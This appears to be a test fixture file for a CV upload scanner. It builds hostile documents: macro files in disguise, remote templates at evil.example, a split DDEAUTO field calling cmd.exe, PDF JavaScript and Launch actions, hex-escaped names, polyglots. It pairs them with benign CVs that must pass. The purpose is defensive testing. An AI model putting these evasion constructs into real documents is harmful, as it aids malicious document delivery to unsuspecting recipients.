/**
 * Hostile CV uploads, built in memory (no binary of unknown origin is committed): macro
 * documents in every disguise, objects, outside content, scripts in PDFs, encryption,
 * polyglots, truncated and tiny files, wrong extensions. Each names the code the route
 * must answer with; `plainCvs` are documents with ordinary links that must still pass.
 */
import zlib from 'node:zlib';
import * as make from './documents';
import { writeZip } from './zip';

export type HostileCode = 'file_unsafe_content' | 'file_encrypted' | 'file_damaged' | 'file_type' | 'file_name_mismatch' | 'file_empty';
export type HostileFile = { label: string; name: string; content: Buffer; code: HostileCode };

const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const rels = (...items: string[]) =>
  Buffer.from(
    `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${items.join('')}</Relationships>`
  );
const rel = (id: string, type: string, target: string, external = true) =>
  `<Relationship Id="${id}" Type="${REL}/${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/>`;
const docxWithRels = (part: string, ...items: string[]) => make.docx([{ name: part, data: rels(...items) }]);
/** A DOCX with one more Word part (a header) whose body is given. */
function docxBody(body: string): Buffer {
  const xml = `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`;
  return make.docx([{ name: 'word/header1.xml', data: Buffer.from(xml) }]);
}

/** A PDF object stream (PDF 1.5) holding one object, deflated. */
function objectStream(number: number, object: string): string {
  const index = `${number} 0 `;
  const data = zlib.deflateSync(Buffer.from(index + object, 'latin1')).toString('latin1');
  return `<< /Type /ObjStm /N 1 /First ${index.length} /Filter /FlateDecode /Length ${data.length} >>\nstream\n${data}\nendstream`;
}

const spreadsheetMacro = () =>
  writeZip([
    {
      name: '[Content_Types].xml',
      data: Buffer.from(
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>' +
          '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>'
      )
    },
    { name: '_rels/.rels', data: rels(rel('rId1', 'officeDocument', 'xl/workbook.xml', false)) },
    { name: 'xl/workbook.xml', data: Buffer.from('<workbook/>') }
  ]);

const pdfThenZip = () => Buffer.concat([make.pdf(), make.plainZip()]);
/** A ZIP whose first entry is stored and starts with a PDF header: a reader may take it for a PDF. */
const zipThenPdf = () => writeZip([{ name: 'a.pdf', data: make.pdf(), method: 0 }, ...docxEntries()]);
function docxEntries() {
  return [
    {
      name: '[Content_Types].xml',
      data: Buffer.from(
        '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
      )
    },
    { name: '_rels/.rels', data: rels(rel('rId1', 'officeDocument', 'word/document.xml', false)) },
    { name: 'word/document.xml', data: Buffer.from('<w:document/>') }
  ];
}

const half = (buf: Buffer) => buf.subarray(0, Math.floor(buf.length / 2));

export function hostileFiles(): HostileFile[] {
  const unsafe = 'file_unsafe_content' as const;
  return [
    // Word 97 documents
    {
      label: 'a .doc whose macro storages are spelled mACROS/vBa',
      name: 'cv.doc',
      content: make.docWithMacros('mACROS', 'vBa'),
      code: unsafe
    },
    {
      label: 'a .doc with an Excel-style _vba_project_cur storage',
      name: 'cv.doc',
      content: make.docWithMacros('_vba_project_cur', 'vba'),
      code: unsafe
    },
    {
      label: 'a .doc with an embedded OLE package (ObjectPool)',
      name: 'cv.doc',
      content: make.doc([{ path: 'ObjectPool/_1234/\u0001Ole10Native' }]),
      code: unsafe
    },
    { label: 'an encrypted .doc', name: 'cv.doc', content: make.doc([], 0x0100), code: 'file_encrypted' },
    {
      label: 'an encrypted Word 2007 package named .docx',
      name: 'cv.docx',
      content: make.compoundFile([{ path: 'EncryptionInfo' }, { path: 'EncryptedPackage' }]),
      code: 'file_encrypted'
    },
    { label: 'a Word template (.dot) named .doc', name: 'cv.doc', content: make.doc([], 0x0001), code: 'file_type' },
    // OOXML
    { label: 'a .docm renamed .docx', name: 'cv.docx', content: make.docm(), code: unsafe },
    {
      label: 'a .dotm renamed .docx',
      name: 'cv.docx',
      content: make.docx([], 'application/vnd.ms-word.template.macroEnabledTemplate.main+xml'),
      code: unsafe
    },
    { label: 'an .xlsm renamed .docx', name: 'cv.docx', content: spreadsheetMacro(), code: unsafe },
    {
      label: 'a .docx with word/VBAPROJECT.BIN and no macro content type',
      name: 'cv.docx',
      content: make.docx([{ name: 'word/VBAPROJECT.BIN', data: Buffer.alloc(64, 1) }]),
      code: unsafe
    },
    {
      label: 'a .docx whose macro part is only declared by its content type',
      name: 'cv.docx',
      content: make.docx(
        [{ name: 'word/x.dat', data: Buffer.alloc(64, 1) }],
        undefined,
        '<Override PartName="/word/x.dat" ContentType="application/vnd.ms-office.vbaProject"/>'
      ),
      code: unsafe
    },
    {
      label: 'a .docx with an ActiveX control',
      name: 'cv.docx',
      content: make.docx([{ name: 'word/activeX/activeX1.xml', data: Buffer.from('<ax/>') }]),
      code: unsafe
    },
    {
      label: 'a .docx with an embedded OLE object',
      name: 'cv.docx',
      content: make.docx([{ name: 'word/embeddings/oleObject1.bin', data: make.doc() }]),
      code: unsafe
    },
    {
      label: 'a .docx that loads a remote template',
      name: 'cv.docx',
      content: docxWithRels('word/_rels/settings.xml.rels', rel('rId1', 'attachedTemplate', 'https://evil.example/t.dotm')),
      code: unsafe
    },
    {
      label: 'a .docx with an external OLE link (mhtml:)',
      name: 'cv.docx',
      content: docxWithRels('word/_rels/document.xml.rels', rel('rId9', 'oleObject', 'mhtml:https://evil.example/x!x-usc:y')),
      code: unsafe
    },
    {
      label: 'a .docx with a picture loaded from the web',
      name: 'cv.docx',
      content: docxWithRels('word/_rels/document.xml.rels', rel('rId5', 'image', 'https://tracker.example/p.png')),
      code: unsafe
    },
    {
      label: 'a .docx linking to a file share',
      name: 'cv.docx',
      content: docxWithRels('word/_rels/document.xml.rels', rel('rId6', 'hyperlink', 'file://evil.example/share/cv.lnk')),
      code: unsafe
    },
    {
      label: 'a .docx with a DDEAUTO field split across runs',
      name: 'cv.docx',
      content: docxBody(
        '<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText></w:r>'
      ),
      code: unsafe
    },
    {
      label: 'a Word template (.dotx) renamed .docx',
      name: 'cv.docx',
      content: make.docx([], 'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml'),
      code: 'file_type'
    },
    // OpenDocument
    {
      label: 'an .odt with Basic macros',
      name: 'cv.odt',
      content: make.odt({ extra: [{ name: 'Basic/Standard/Module1.xml', data: Buffer.from('<script/>') }] }),
      code: unsafe
    },
    {
      label: 'an .odt whose manifest lists a macro library (other case)',
      name: 'cv.odt',
      content: make.odt({ manifest: '<manifest:file-entry manifest:full-path="basic/" manifest:media-type="text/xml"/>' }),
      code: unsafe
    },
    {
      label: 'an .odt that runs a macro on open',
      name: 'cv.odt',
      content: make.odt({
        body: '<office:event-listeners><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></office:event-listeners>'
      }),
      code: unsafe
    },
    {
      label: 'an .odt with a section loaded from the web',
      name: 'cv.odt',
      content: make.odt({
        body: '<text:section text:name="s"><text:section-source xlink:href="https://evil.example/s.odt"/></text:section>'
      }),
      code: unsafe
    },
    {
      label: 'an .odt with a picture from a file share',
      name: 'cv.odt',
      content: make.odt({ body: '<draw:frame><draw:image xlink:href="\\\\evil.example\\share\\p.png"/></draw:frame>' }),
      code: unsafe
    },
    {
      label: 'an encrypted .odt',
      name: 'cv.odt',
      content: make.odt({
        manifest:
          '<manifest:file-entry manifest:full-path="styles.xml" manifest:media-type="text/xml"><manifest:encryption-data/></manifest:file-entry>'
      }),
      code: 'file_encrypted'
    },
    {
      label: 'an OpenDocument template named .odt',
      name: 'cv.odt',
      content: make.odt({ mimetype: 'application/vnd.oasis.opendocument.text-template' }),
      code: 'file_type'
    },
    // PDF
    {
      label: 'a PDF that runs JavaScript when opened',
      name: 'cv.pdf',
      content: make.pdf('cv', { catalog: '/OpenAction 6 0 R', objects: ['<< /S /JavaScript /JS (app.alert(1)) >>'] }),
      code: unsafe
    },
    {
      label: 'a PDF with /J#61vaScript written in hex escapes',
      name: 'cv.pdf',
      content: make.pdf('cv', { catalog: '/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>' }),
      code: unsafe
    },
    {
      label: 'a PDF with a launch action',
      name: 'cv.pdf',
      content: make.pdf('cv', { catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }),
      code: unsafe
    },
    {
      label: 'a PDF with an embedded file',
      name: 'cv.pdf',
      content: make.pdf('cv', {
        catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>',
        objects: ['<< /Type /Filespec /F (a.exe) >>']
      }),
      code: unsafe
    },
    {
      label: 'a PDF with an XFA form',
      name: 'cv.pdf',
      content: make.pdf('cv', { catalog: '/AcroForm << /XFA 6 0 R >>', objects: ['<< /Length 0 >>\nstream\n\nendstream'] }),
      code: unsafe
    },
    {
      label: 'a PDF with JavaScript inside a compressed object stream',
      name: 'cv.pdf',
      content: make.pdf('cv', { catalog: '/OpenAction 7 0 R', objects: [objectStream(7, '<< /S /JavaScript /JS (app.alert(1)) >>')] }),
      code: unsafe
    },
    {
      label: 'an encrypted PDF',
      name: 'cv.pdf',
      content: make.pdf('cv', { trailer: '/Encrypt << /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>' }),
      code: 'file_encrypted'
    },
    // RTF
    { label: 'an RTF with an embedded object', name: 'cv.rtf', content: make.rtfWithObject(), code: unsafe },
    {
      label: 'an RTF with an auto-updating linked object in capitals',
      name: 'cv.rtf',
      content: Buffer.from('{\\rtf1\\ansi {\\OBJECT\\OBJAUTLINK\\objupdate {\\*\\objclass Word.Document.8}}}'),
      code: unsafe
    },
    {
      label: 'an RTF with a remote template',
      name: 'cv.rtf',
      content: Buffer.from('{\\rtf1\\ansi{\\*\\template https://evil.example/t.dot}CV\\par}'),
      code: unsafe
    },
    {
      label: 'an RTF with an INCLUDEPICTURE field',
      name: 'cv.rtf',
      content: Buffer.from('{\\rtf1\\ansi{\\field{\\*\\fldinst {INCLUDE}{PICTURE "https://tracker.example/p.png"}}{\\fldrslt x}}\\par}'),
      code: unsafe
    },
    // Polyglots
    { label: 'a PDF with a ZIP appended (PDF+ZIP polyglot)', name: 'cv.pdf', content: pdfThenZip(), code: unsafe },
    { label: 'a ZIP that starts with a PDF (ZIP+PDF polyglot)', name: 'cv.docx', content: zipThenPdf(), code: unsafe },
    {
      label: 'an HTML page with a PDF after its script',
      name: 'cv.pdf',
      content: Buffer.concat([Buffer.from('<html><script>alert(1)</script>'), make.pdf()]),
      code: unsafe
    },
    {
      label: 'a GIF carrying a script, named .pdf',
      name: 'cv.pdf',
      content: Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;<script>alert(1)</script>', 'latin1'),
      code: 'file_type'
    },
    // Truncated, tiny and empty
    { label: 'a truncated PDF', name: 'cv.pdf', content: half(make.pdf()), code: 'file_damaged' },
    { label: 'a truncated DOCX', name: 'cv.docx', content: half(make.docx()), code: 'file_damaged' },
    { label: 'a truncated DOC', name: 'cv.doc', content: make.doc().subarray(0, 1000), code: 'file_damaged' },
    { label: 'a truncated RTF', name: 'cv.rtf', content: half(make.rtf()), code: 'file_damaged' },
    { label: 'a 1-byte file', name: 'cv.pdf', content: Buffer.from('%'), code: 'file_damaged' },
    { label: 'a 3-byte file', name: 'cv.pdf', content: Buffer.from('PK\x03', 'latin1'), code: 'file_damaged' },
    { label: 'an empty file', name: 'cv.pdf', content: Buffer.alloc(0), code: 'file_empty' },
    // Wrong extensions
    { label: 'a PDF named .docx', name: 'cv.docx', content: make.pdf(), code: 'file_name_mismatch' },
    { label: 'an RTF named .doc', name: 'cv.doc', content: make.rtf(), code: 'file_name_mismatch' },
    { label: 'a DOCX named .docm', name: 'cv.docm', content: make.docx(), code: 'file_name_mismatch' },
    { label: 'a true PDF named .exe', name: 'cv.exe', content: make.pdf(), code: 'file_name_mismatch' }
  ];
}

/** Ordinary CVs with the links and structures real ones have: they must still be taken. */
export function plainCvs(): { label: string; name: string; content: Buffer; format: string }[] {
  return [
    { label: 'a PDF', name: 'cv.pdf', content: make.pdf(), format: 'pdf' },
    {
      label: 'a PDF with a web link and a page-destination OpenAction',
      name: 'Jane.Smith CV.pdf',
      content: make.pdf('cv', {
        catalog: '/OpenAction [3 0 R /Fit]',
        objects: ['<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://www.linkedin.com/in/jane/JavaScript) >> >>']
      }),
      format: 'pdf'
    },
    {
      label: 'a PDF with a clean compressed object stream and "HTML/JavaScript" in its title',
      name: 'cv.pdf',
      content: make.pdf('HTML/JavaScript developer', {
        trailer: '/Info 7 0 R',
        objects: [objectStream(7, '<< /Title (HTML/JavaScript developer) >>')]
      }),
      format: 'pdf'
    },
    { label: 'a DOCX', name: 'cv.docx', content: make.docx(), format: 'docx' },
    {
      label: 'a DOCX with web and e-mail hyperlinks',
      name: 'cv.docx',
      content: docxWithRels(
        'word/_rels/document.xml.rels',
        rel('rId5', 'hyperlink', 'https://example.org/me'),
        rel('rId6', 'hyperlink', 'mailto:jane@example.org'),
        rel('rId7', 'styles', 'styles.xml', false)
      ),
      format: 'docx'
    },
    {
      label: 'a DOCX with a HYPERLINK field',
      name: 'cv.docx',
      content: docxBody('<w:r><w:instrText> HYPERLINK "https://example.org" </w:instrText></w:r>'),
      format: 'docx'
    },
    { label: 'an ODT', name: 'cv.odt', content: make.odt(), format: 'odt' },
    {
      label: 'an ODT with a web link and an embedded picture',
      name: 'cv.odt',
      content: make.odt({
        body: '<text:p><text:a xlink:href="https://example.org/">me</text:a></text:p><draw:frame><draw:image xlink:href="Pictures/1.png"/></draw:frame>'
      }),
      format: 'odt'
    },
    { label: 'a DOC', name: 'cv.doc', content: make.doc(), format: 'doc' },
    { label: 'a DOC with an ObjectPool entry holding nothing', name: 'cv.doc', content: make.doc([{ path: 'ObjectPool' }]), format: 'doc' },
    { label: 'an RTF', name: 'cv.rtf', content: make.rtf(), format: 'rtf' },
    {
      label: 'an RTF with a picture and a hyperlink field',
      name: 'cv.rtf',
      content: Buffer.from(
        '{\\rtf1\\ansi{\\field{\\*\\fldinst HYPERLINK "https://example.org"}{\\fldrslt me}}{\\pict\\pngblip 89504e47}\\par}'
      ),
      format: 'rtf'
    }
  ];
}
